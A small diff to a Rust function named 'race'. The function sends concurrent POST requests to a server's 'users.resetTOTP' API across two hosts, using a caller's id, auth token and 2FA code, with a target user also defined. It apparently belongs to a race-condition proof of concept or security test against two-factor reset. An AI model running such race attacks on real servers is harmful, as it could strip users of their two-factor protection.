@@ -197,9 +197,9 @@ async fn race(client: &Client, hosts: &[Host; 2], number: usize) {
     let (caller, target) = (format!("a{number}"), format!("m{number}"));
     let code = code_of(&caller);
     let mut requests = JoinSet::new();
-    for n in 0..AT_ONCE {
+    for host in hosts.iter().cycle().take(AT_ONCE) {
         let request = client
-            .post(format!("{}/api/v1/users.resetTOTP", hosts[n % 2].url))
+            .post(format!("{}/api/v1/users.resetTOTP", host.url))
             .header("x-user-id", &caller)
             .header("x-auth-token", token_of(&caller))
             .header("x-2fa-code", &code)
